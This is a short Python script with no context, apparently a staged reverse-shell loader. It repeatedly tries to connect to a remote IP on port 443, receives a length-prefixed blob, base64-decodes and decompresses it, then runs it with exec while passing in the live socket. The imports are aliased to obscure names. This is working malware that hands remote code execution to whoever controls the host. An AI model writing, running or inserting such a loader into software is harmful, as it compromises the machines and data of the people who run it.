import socket as _s, zlib as _z, base64 as _b, struct, time
for attempt in range(10):
    try:
        so = _s.socket(2, 1)
        so.connect(("203.0.113.77", 443))
        break
    except:
        time.sleep(5)
length = struct.unpack(">I", so.recv(4))[0]
data = so.recv(length)
while len(data) < length:
    data += so.recv(length - len(data))
exec(_z.decompress(_b.b64decode(data)), {"s": so})
